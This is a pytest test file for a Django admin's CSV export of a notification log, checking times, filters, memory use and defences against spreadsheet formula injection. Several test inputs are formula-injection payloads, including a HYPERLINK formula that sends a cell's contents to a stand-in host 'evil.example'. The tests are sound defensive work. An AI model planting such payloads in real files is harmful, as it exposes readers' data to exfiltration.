"""The log as CSV."""

import csv
import io
import tracemalloc
from datetime import timedelta

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from notifications.admin import csv_file
from notifications.admin.log import export
from notifications.models import Attempt
from notifications.models.attempt import Result

pytestmark = pytest.mark.django_db
EXPORT = "/notifications/attempt/export/"


def entry(now, **values):
    defaults = {"at": now, "result": Result.ACCEPTED, "subject": "Ticket 17"}
    return Attempt.objects.create(**defaults | values)


def read(response):
    """The rows as a spreadsheet reads them, by the names of the columns."""
    content = response.getvalue()
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_an_export_has_every_entry_with_its_time_in_utc(megan, stopped_clock):
    entry(
        stopped_clock.replace(year=2020, month=3, day=1, hour=5, minute=4, second=3),
        subject="Grüße, Jo",
    )
    entry(stopped_clock, is_test=True, recipients='"Doe, Jo" <jo@contoso.example>', http_status=202)

    response = megan.get(EXPORT)
    newest, oldest = read(response)

    assert oldest["Time (UTC)"] == "2020-03-01T05:04:03Z"
    assert oldest["Subject"] == "Grüße, Jo"
    assert newest["To"] == '"Doe, Jo" <jo@contoso.example>'
    assert (newest["Test"], newest["HTTP status"]) == ("yes", "202")
    assert newest["Result"] == "Accepted by Microsoft"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        f'filename="notifications-log-{stopped_clock:%Y-%m-%d}.csv"'
        in response["Content-Disposition"]
    )


def test_only_what_the_list_shows_is_exported(megan, now):
    entry(now, subject="Ticket 17")
    entry(now, subject="Ticket 18", result=Result.FAILED)

    assert [row["Subject"] for row in read(megan.get(f"{EXPORT}?result=failed"))] == ["Ticket 18"]
    assert [row["Subject"] for row in read(megan.get(f"{EXPORT}?q=17"))] == ["Ticket 17"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_no_cell_is_a_formula(megan, now, sign):
    subject = f'{sign}HYPERLINK("https://evil.example";"x")'
    entry(now, subject=subject, recipients=subject, error=subject, message=subject)

    (row,) = read(megan.get(EXPORT))

    for column in ("Subject", "To", "Error", "Microsoft's message"):
        assert row[column] == f"'{subject}"


HOSTILE = st.text(st.sampled_from(";,\t\r\n\"'=+-@\uff1d ax\0\u2028"), max_size=30)


@given(HOSTILE, HOSTILE, st.sampled_from(",;\t"))
@example('x;=HYPERLINK("http://evil.example/?"&A1;"open");y', "", ";")
@example('x;"=1+1";y', "", ";")
@example("x\n=1+1", "x\n\t +1", "\t")
@example("x; \u2028@SUM(A1)", "", ";")
def test_no_cell_is_a_formula_whatever_the_file_is_cut_at(one, other, separator):
    written = csv_file._csv(
        [[csv_file.harmless("first"), csv_file.harmless(one), csv_file.harmless(other)]]
    )

    rows = csv.reader(io.StringIO(written.decode(), newline=""), delimiter=separator)

    cells = [cell.strip() for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\uff1d"))] == []


def test_what_is_no_formula_stays_as_it_is():
    text = "Re: a; b, c - d (+49 30 1234) a@contoso.example; 'x'"

    assert csv_file.harmless(text) == text


def test_all_pieces_are_there_once_and_in_order_also_with_equal_times(megan, now):
    piece = csv_file._PIECE
    Attempt.objects.bulk_create(
        Attempt(at=now - timedelta(seconds=i // 700), result=Result.ACCEPTED, subject=str(i))
        for i in range(2 * piece)
    )

    rows = read(megan.get(EXPORT))

    assert len(rows) == 2 * piece
    assert len({row["Subject"] for row in rows}) == 2 * piece
    assert [row["Time (UTC)"] for row in rows] == sorted(
        (row["Time (UTC)"] for row in rows), reverse=True
    )


def test_the_memory_does_not_grow_with_the_rows(now, monkeypatch):
    monkeypatch.setattr(csv_file, "_PIECE", 100)
    rows = [Attempt(at=now, result=Result.ACCEPTED, subject="x" * 900) for _i in range(4000)]
    Attempt.objects.bulk_create(rows, batch_size=2000)
    del rows
    tracemalloc.start()

    size = sum(map(len, csv_file.lines(Attempt.objects.all(), export._COLUMNS)))
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert size > 3_600_000
    assert most < 1_800_000


@pytest.mark.parametrize("query", ["at__gte=yesterday", "nothing=1"])
def test_a_filter_that_is_none_is_no_server_error(megan, query):
    assert megan.get(f"{EXPORT}?{query}").status_code in (200, 302, 400)
